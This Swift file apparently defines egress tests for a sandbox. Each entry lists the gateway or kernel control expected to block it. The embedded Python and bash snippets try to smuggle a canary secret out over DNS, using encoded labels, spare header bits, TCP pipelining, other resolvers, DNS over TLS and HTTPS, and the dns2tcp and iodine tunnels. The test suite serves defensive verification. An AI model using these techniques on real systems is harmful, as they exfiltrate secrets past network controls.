extension AttackTable {
  /// Names, types and spare bits of questions: DNS as a channel.
  static let dns: [Attack] = [
    Attack(
      id: "dns-label", path: .tunnel, title: "secret in the labels of names nobody listed",
      closedBy: "DNS answers listed names only (gateway)", provesControls: [.dnsAllowlist],
      tools: [.python, .dig, .curl], attempts: dnsLabels),
    Attack(
      id: "dns-record-type", path: .tunnel, title: "secret in questions for every kind of record",
      closedBy: "DNS answers listed names only (gateway)", tools: [.python],
      attempts: [
        Attempt(
          "17 record types", tries: 17,
          .python(
            #"""
            kinds = [2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 48, 52, 64, 65, 99, 255, 257]
            attempt(ask, [question(f"{CANARY}.{ZONE}", kind) for kind in kinds], None, 53, 0.3)
            """#))
      ]),
    Attack(
      id: "dns-child-of-allowed", path: .tunnel, title: "secret as a child of a name that is listed",
      closedBy: "exact names only (gateway)", tools: [.python],
      attempts: [
        Attempt(
          "children of listed names", tries: 7,
          .python(
            #"""
            parents = [E["ALLOWED_HOST"], "packages.cordon.internal", f"sts.{E['REGION']}.amazonaws.com",
                       f"x.s3.{E['REGION']}.amazonaws.com", f"s3.{E['REGION']}.amazonaws.com", "s3.amazonaws.com",
                       "amazonaws.com"]
            attempt(ask, [question(f"{CANARY}.{parent}") for parent in parents], None, 53, 0.3)
            """#))
      ]),
    Attack(
      id: "dns-spare-bits", path: .tunnel, title: "secret in parts of a listed question that no answer needs",
      closedBy: "a question is never forwarded (gateway)", tools: [.python],
      attempts: [
        Attempt(
          "options, counts, classes, letter case, trailing bytes", tries: 10,
          .python(
            #"""
            import struct
            def options(code, data):
                option = struct.pack(">HH", code, len(data)) + data
                return b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option
            name, secret = E["ALLOWED_HOST"], CANARY.encode()
            bits = "".join(f"{byte:08b}" for byte in secret)
            cased = "".join(c.upper() if bit == "1" else c for c, bit in zip(name, bits))
            packets = [question(cased), question(name, extra=options(65001, secret), additional=1),
                       question(name, extra=options(8, b"\0\1\x20\0" + secret[:4]) , additional=1),
                       question(name, extra=options(10, secret[:8] + secret), additional=1),
                       question(name, klass=3, extra=secret), question(name, questions=2, extra=b"\x18" + secret + b"\0\0\1\0\1"),
                       question(f"{CANARY}.{ZONE}", flags=0x2000), question(f"{CANARY}.{ZONE}", flags=0x2800),
                       question(f"{CANARY}.{ZONE}", flags=0x0000), question(name, extra=secret)]
            attempt(ask, packets, None, 53, 0.3)
            """#))
      ]),
    Attack(
      id: "dns-over-tcp", path: .tunnel, title: "the same questions over TCP, many in one connection",
      closedBy: "DNS answers listed names only (gateway)", tools: [.python],
      attempts: [
        Attempt(
          "pipelined questions", tries: 20,
          .python(
            #"""
            def pipeline():
                sock = dial(E["RESOLVER"], 53)
                for number in range(20):
                    packet = question(f"{number}.{CANARY}.{ZONE}", 16 if number % 2 else 1)
                    sock.sendall(len(packet).to_bytes(2, "big") + packet)
                listen(sock)
            attempt(pipeline)
            """#))
      ]),
    Attack(
      id: "dns-other-resolver", path: .tunnel, title: "another name server, asked directly",
      closedBy: "own network namespace (kernel)", provesControls: [.networkNamespace],
      tools: [.dig, .python],
      attempts: [
        Attempt(
          "dig @server", tries: 4,
          .bash(
            #"""
            for server in "$NAMESERVER" "$SINK" "$SINK_OTHER" "$SINK6"; do
              try dig +tries=1 +time=1 +short "@$server" "$CANARY.$ZONE" >/dev/null
            done
            """#)),
        Attempt(
          "dig +tcp @server", tries: 2,
          .bash(
            #"""
            for server in "$NAMESERVER" "$SINK"; do
              try dig +tcp +tries=1 +time=1 +short "@$server" TXT "$CANARY.$ZONE" >/dev/null
            done
            """#)),
      ]),
    Attack(
      id: "dns-over-tls-https", path: .tunnel, title: "DNS inside TLS or HTTPS",
      closedBy: "own network namespace (kernel), resolvers not listed (gateway)",
      tools: [.python, .curl],
      attempts: [
        Attempt(
          "DNS over TLS", tries: 2,
          .python(
            #"""
            def ask_in_tls(server):
                sock = tls(dial(server, 853), "dns.evil.test")
                packet = question(f"{CANARY}.{ZONE}")
                sock.sendall(len(packet).to_bytes(2, "big") + packet)
                listen(sock, 0.3)
            attempt(ask_in_tls, SINK)
            attempt(ask_in_tls, E["SINK_OTHER"])
            """#)),
        Attempt(
          "DNS over HTTPS", tries: 4,
          .bash(
            #"""
            direct --doh-url "https://$SINK/dns-query" --doh-insecure "https://$CANARY.$ZONE/"
            direct "https://$ZONE/dns-query?dns=$CANARY"
            proxied "https://$ZONE/dns-query?dns=$CANARY"
            printf '%s' "$CANARY" | timeout 6 curl -sSk -o /dev/null --proxy "$PROXY" --max-time 5 \
              -H 'content-type: application/dns-message' --data-binary @- "https://$ZONE/dns-query"
            """#)),
      ]),
    Attack(
      id: "dns-tunnel-tools", path: .tunnel, title: "ready-made tunnels: dns2tcp, iodine",
      closedBy: "DNS answers listed names only (gateway), no tun device (sandbox)",
      tools: [.dns2tcp, .iodine],
      attempts: [
        Attempt(
          "dns2tcp", tries: 2,
          .bash(
            #"""
            timeout 2 dns2tcpc -c -z "$CANARY.$ZONE" "$RESOLVER" </dev/null
            timeout 2 dns2tcpc -c -z "$CANARY.$ZONE" "$NAMESERVER" </dev/null
            """#)),
        Attempt(
          "iodine", tries: 1,
          .bash(
            #"""
            [ -c /dev/net/tun ] || absent "this machine has no tun device"
            timeout 3 iodine -f -r -P "$CANARY" "$RESOLVER" "$CANARY.$ZONE" </dev/null
            """#)),
      ]),
  ]

  private static let dnsLabels = [
    Attempt(
      "200 raw questions", tries: 200,
      .python(
        #"""
        names = [f"{number}.{CANARY}.{ZONE}" for number in range(200)]
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.settimeout(0.5)
        for name in names:
            attempt(sock.sendto, question(name), (E["RESOLVER"], 53))
        for name in names:
            if attempt(sock.recv, 4096) is None:
                break
        """#)),
    Attempt(
      "hex, base32 and split labels", tries: 8,
      .python(
        #"""
        import base64
        secret = CANARY.encode()
        names = [secret.hex(), base64.b32encode(secret).decode().rstrip("="), ".".join(CANARY),
                 ".".join(CANARY[i:i + 6] for i in range(0, 24, 6))]
        names += [f"{i}.{CANARY[i:i + 6]}" for i in range(0, 24, 6)]
        attempt(ask, [question(f"{name}.{ZONE}") for name in names], None, 53, 0.3)
        """#)),
    Attempt(
      "the system's own clients", tries: 4,
      .bash(
        #"""
        try getent ahostsv4 "$CANARY.$ZONE" >/dev/null
        try dig +tries=1 +time=1 +short "$CANARY.$ZONE" >/dev/null
        try dig +tries=1 +time=1 +short TXT "$CANARY.$ZONE" >/dev/null
        direct "http://$CANARY.$ZONE/"
        """#)),
  ]
}
